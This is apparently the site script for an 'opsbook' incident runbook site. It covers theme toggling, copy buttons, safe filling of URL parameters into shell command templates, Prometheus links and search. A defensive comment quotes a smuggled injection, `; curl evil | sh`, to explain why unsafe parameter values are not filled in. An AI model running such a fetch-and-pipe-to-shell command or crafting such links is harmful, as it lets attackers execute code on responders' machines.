// opsbook site script: theme toggle, copy buttons, target, params and request id in commands,
// search. It never writes data as HTML (textContent only), so nothing from a runbook or the URL
// can run as script.
(function () {
  "use strict";
  var doc = document;
  var root = doc.body.getAttribute("data-root") || "";
  var query = new URLSearchParams(location.search);

  function store(key, value) {
    try {
      if (value === undefined) return localStorage.getItem(key);
      localStorage.setItem(key, value);
    } catch (e) {}
    return null;
  }

  // Theme: the saved choice was applied by theme.js before paint; this only flips it.
  var toggle = doc.getElementById("theme-toggle");
  if (toggle) {
    toggle.addEventListener("click", function () {
      var html = doc.documentElement;
      var current = html.getAttribute("data-theme") ||
        (matchMedia("(prefers-color-scheme: dark)").matches ? "dark" : "light");
      var next = current === "dark" ? "light" : "dark";
      html.setAttribute("data-theme", next);
      store("opsbook-theme", next);
    });
  }

  // Copy buttons on every code block.
  function copyText(text, button) {
    function done() {
      button.textContent = "Copied";
      setTimeout(function () { button.textContent = "Copy"; }, 1500);
    }
    function fallback() {
      var area = doc.createElement("textarea");
      area.value = text;
      doc.body.appendChild(area);
      area.select();
      try { doc.execCommand("copy"); done(); } catch (e) {}
      doc.body.removeChild(area);
    }
    if (navigator.clipboard && navigator.clipboard.writeText) {
      navigator.clipboard.writeText(text).then(done, fallback);
    } else {
      fallback();
    }
  }
  function addCopy(box, code, className) {
    var button = doc.createElement("button");
    button.type = "button";
    button.className = className;
    button.textContent = "Copy";
    button.setAttribute("aria-label", "Copy command");
    button.addEventListener("click", function () { copyText(code.textContent, button); });
    box.appendChild(button);
  }
  Array.prototype.forEach.call(doc.querySelectorAll("main pre:not(.no-copy)"), function (pre) {
    pre.classList.add("has-copy");
    addCopy(pre, pre.querySelector("code") || pre, "copy");
  });
  // A paragraph that is nothing but inline code is a command too (`kubectl set env ...`).
  Array.prototype.forEach.call(doc.querySelectorAll("main .md p"), function (p) {
    var only = p.childNodes.length === 1 && p.firstChild.nodeName === "CODE";
    if (only) addCopy(p, p.firstChild, "copy copy-inline");
  });

  // Params (an alert's labels): the page's URL (?namespace=shop) wins over the runbook's default.
  // An empty value (`deployment=` from an alert that has no such label) keeps the default.
  var paramInputs = Array.prototype.slice.call(doc.querySelectorAll("input[data-param]"));
  var SAFE_VALUE = /^[A-Za-z0-9._:\/@+=,%-]*$/;
  paramInputs.forEach(function (input) {
    var name = input.getAttribute("data-param");
    if (query.get(name)) input.value = query.get(name);
  });

  // Targets, params and request id: each command keeps its raw form in data-template, and only
  // the names given here are replaced (plain text; nothing is evaluated).
  var targets = [];
  var data = doc.getElementById("targets");
  if (data) {
    try { targets = JSON.parse(data.textContent) || []; } catch (e) { targets = []; }
  }
  var select = doc.getElementById("target");
  var ridBox = doc.getElementById("rid");
  var requestId = "";
  function newRequestId() {
    var rand = Math.floor(Math.random() * 0x100000000).toString(16);
    if (window.crypto && crypto.getRandomValues) {
      rand = Array.prototype.map.call(crypto.getRandomValues(new Uint8Array(4)), function (b) {
        return (b + 256).toString(16).slice(1);
      }).join("");
    }
    requestId = "ob-" + Date.now().toString(36) + "-" + rand;
    if (ridBox) ridBox.textContent = requestId;
  }
  function fill() {
    var chosen = targets[0];
    for (var i = 0; select && i < targets.length; i++) {
      if (targets[i].name === select.value) chosen = targets[i];
    }
    var vars = Object.create(null);
    var own = (chosen && chosen.vars) || {};
    Object.keys(own).forEach(function (name) { vars[name] = own[name]; });
    // An empty input leaves its {{ name }} visible, so a missing label is noticed. A value goes
    // into commands a responder pastes into a shell, and a link can carry any value: one with a
    // character that could end a quoted word or start another command (`;`, `|`, `$`, quotes,
    // spaces, brackets) is not filled in, and its input is marked, so a crafted link cannot
    // slip `; curl evil | sh` into a copied command.
    paramInputs.forEach(function (input) {
      var safe = SAFE_VALUE.test(input.value);
      input.setAttribute("aria-invalid", safe ? "false" : "true");
      input.title = safe ? "" : "not filled in: use letters, digits and . _ : / @ + = , % - only";
      if (input.value !== "" && safe) vars[input.getAttribute("data-param")] = input.value;
    });
    function filled(template) {
      return template.replace(/\{\{\s*([A-Za-z0-9_.-]*)\s*\}\}/g, function (all, name) {
        if (name === "request_id") return requestId;
        return Object.prototype.hasOwnProperty.call(vars, name) ? vars[name] : all;
      });
    }
    Array.prototype.forEach.call(doc.querySelectorAll("[data-template]"), function (el) {
      el.textContent = filled(el.getAttribute("data-template"));
    });
    // "Open in Prometheus": the filled query, encoded, under the filled base URL (only an
    // http(s) one without query or fragment, so a link never becomes script or a wrong page;
    // otherwise no link at all, not the previous target's).
    Array.prototype.forEach.call(doc.querySelectorAll("[data-prom-expr]"), function (a) {
      var base = filled(a.getAttribute("data-prom-base")).replace(/\/+$/, "");
      if (!/^https?:\/\/[^?#]*$/i.test(base)) { a.removeAttribute("href"); return; }
      a.href = base + "/graph?g0.expr=" + encodeURIComponent(filled(a.getAttribute("data-prom-expr"))) + "&g0.tab=0";
    });
  }
  if (doc.querySelector("[data-template]")) {
    var wanted = query.get("target") || store("opsbook-target");
    if (select && wanted) {
      for (var t = 0; t < select.options.length; t++) {
        if (select.options[t].value === wanted) select.value = wanted;
      }
    }
    newRequestId();
    fill();
    if (select) {
      select.addEventListener("change", function () { store("opsbook-target", select.value); fill(); });
    }
    var again = doc.getElementById("new-rid");
    if (again) again.addEventListener("click", function () { newRequestId(); fill(); });
    paramInputs.forEach(function (input) { input.addEventListener("input", fill); });
  }

  // The incident placeholder: name the failure mode the reader came from.
  var incident = doc.getElementById("incident-cmd");
  if (incident && /^[a-z0-9\/-]+$/.test(query.get("runbook") || "") &&
      /^[a-z0-9-]+$/.test(query.get("failure_mode") || "")) {
    incident.textContent = "opsbook incident new " + query.get("runbook") + "#" +
      query.get("failure_mode") + " --title \"…\"";
  }

  // Search: the index is a script loaded on first use, so pages stay small and file:// works.
  var input = doc.getElementById("q");
  var list = doc.getElementById("results");
  if (!input || !list) return;
  var entries = null;
  var active = -1;
  function load(then) {
    if (entries) return then();
    if (window.OPSBOOK_INDEX) return prepare(then);
    var s = doc.createElement("script");
    s.src = input.getAttribute("data-index");
    s.onload = function () { prepare(then); };
    doc.head.appendChild(s);
  }
  // Entries: {t: title shown, sub, u: link, title: lowercased title, hay: its words, rb: its
  // runbook's words (a weaker match), key: an alert's lowercased name}.
  function prepare(then) {
    entries = [];
    var titles = Object.create(null);
    (window.OPSBOOK_INDEX || []).forEach(function (rb) {
      var rbHay = (rb[1] + " " + rb[2] + " " + rb[3] + " " + rb[0]).toLowerCase() + " " + rb[4];
      entries.push({ t: rb[1], sub: rb[2], u: root + rb[0] + "/index.html", title: rb[1].toLowerCase(), hay: rbHay, rb: "" });
      rb[6].forEach(function (fm) {
        titles[rb[0] + "/" + fm[0]] = fm[1] + " · " + rb[1];
        entries.push({
          t: fm[1], sub: fm[2] + " · " + rb[1], u: root + rb[0] + "/" + fm[0] + ".html",
          title: fm[1].toLowerCase(), hay: fm[3] + " " + rb[5], rb: rbHay
        });
      });
    });
    (window.OPSBOOK_ALERTS || []).forEach(function (a) {
      var leads = a[2].length === 1 ? titles[a[2][0]] : a[2].length + " failure modes";
      entries.push({
        t: a[0], sub: "alert → " + leads, u: root + "alerts/" + a[0] + ".html",
        title: a[0].toLowerCase() + " " + a[1], hay: "", rb: "", key: a[0].toLowerCase()
      });
    });
    then();
  }
  // Query words are split like the index's words (letters, digits, _ - .), so `x-request-id:`
  // and `request id` both match. 0: an alert's exact name; 1: a title hit; 2: every word in the
  // entry's own text; 3: some only in its runbook's text; -1: no match.
  function words(q) {
    return q.split(/[^\p{L}\p{N}_.\-]+/u).map(function (w) {
      return w.replace(/^[._-]+|[._-]+$/g, "");
    }).filter(Boolean);
  }
  function rank(e, q, ws, joined) {
    if (e.key !== undefined && (e.key === q || e.key === joined)) return 0;
    function own(w) { return e.title.indexOf(w) >= 0 || e.hay.indexOf(w) >= 0; }
    function any(w) { return own(w) || e.rb.indexOf(w) >= 0; }
    if (ws.every(any)) return e.title.indexOf(q) >= 0 ? 1 : ws.every(own) ? 2 : 3;
    // `crash looping` typed for KubePodCrashLooping: the words joined, as the index joins them.
    if (ws.length > 1 && any(joined)) return own(joined) ? 2 : 3;
    return -1;
  }
  function search() {
    var started = Date.now();
    var q = input.value.toLowerCase().trim();
    var ws = words(q);
    var joined = ws.join("");
    var buckets = [[], [], [], []];
    for (var i = 0; ws.length && i < entries.length; i++) {
      var r = rank(entries[i], q, ws, joined);
      if (r >= 0) buckets[r].push(entries[i]);
    }
    show([].concat(buckets[0], buckets[1], buckets[2], buckets[3]).slice(0, 20));
    // How long the search took, for the browser test and anyone curious.
    list.setAttribute("data-ms", String(Date.now() - started));
  }
  function show(results) {
    while (list.firstChild) list.removeChild(list.firstChild);
    active = -1;
    input.removeAttribute("aria-activedescendant");
    results.forEach(function (e, i) {
      var li = doc.createElement("li");
      li.id = "result-" + i;
      li.setAttribute("role", "option");
      var a = doc.createElement("a");
      a.href = e.u;
      a.textContent = e.t;
      var sub = doc.createElement("span");
      sub.className = "in";
      sub.textContent = e.sub;
      a.appendChild(doc.createElement("br"));
      a.appendChild(sub);
      li.appendChild(a);
      list.appendChild(li);
    });
    if (input.value.trim() && !results.length) {
      var none = doc.createElement("li");
      none.textContent = "No runbook matches.";
      list.appendChild(none);
    }
    list.hidden = !list.firstChild;
    input.setAttribute("aria-expanded", list.hidden ? "false" : "true");
  }
  function move(step) {
    var items = list.querySelectorAll("li[role=option]");
    if (!items.length) return;
    if (active >= 0) items[active].removeAttribute("aria-selected");
    active = (active + step + items.length) % items.length;
    items[active].setAttribute("aria-selected", "true");
    items[active].scrollIntoView({ block: "nearest" });
    input.setAttribute("aria-activedescendant", items[active].id);
  }
  input.addEventListener("focus", function () { load(function () {}); });
  input.addEventListener("input", function () { load(search); });
  input.addEventListener("keydown", function (ev) {
    if (ev.key === "ArrowDown") { ev.preventDefault(); move(1); }
    else if (ev.key === "ArrowUp") { ev.preventDefault(); move(-1); }
    else if (ev.key === "Enter") {
      var items = list.querySelectorAll("li[role=option] a");
      var pick = items[active >= 0 ? active : 0];
      if (pick) { ev.preventDefault(); location.href = pick.href; }
    } else if (ev.key === "Escape") { input.value = ""; show([]); }
  });
  doc.addEventListener("click", function (ev) {
    if (!list.hidden && !input.parentNode.contains(ev.target)) {
      list.hidden = true;
      input.setAttribute("aria-expanded", "false");
    }
  });
  input.addEventListener("focus", function () {
    if (list.firstChild) { list.hidden = false; input.setAttribute("aria-expanded", "true"); }
  });
  doc.addEventListener("keydown", function (ev) {
    var tag = (doc.activeElement && doc.activeElement.tagName) || "";
    if (ev.key === "/" && !/^(INPUT|TEXTAREA|SELECT)$/.test(tag) && !ev.ctrlKey && !ev.metaKey) {
      ev.preventDefault();
      input.focus();
    }
  });
  var initial = query.get("q");
  if (initial) {
    input.value = initial;
    load(search);
  }
})();
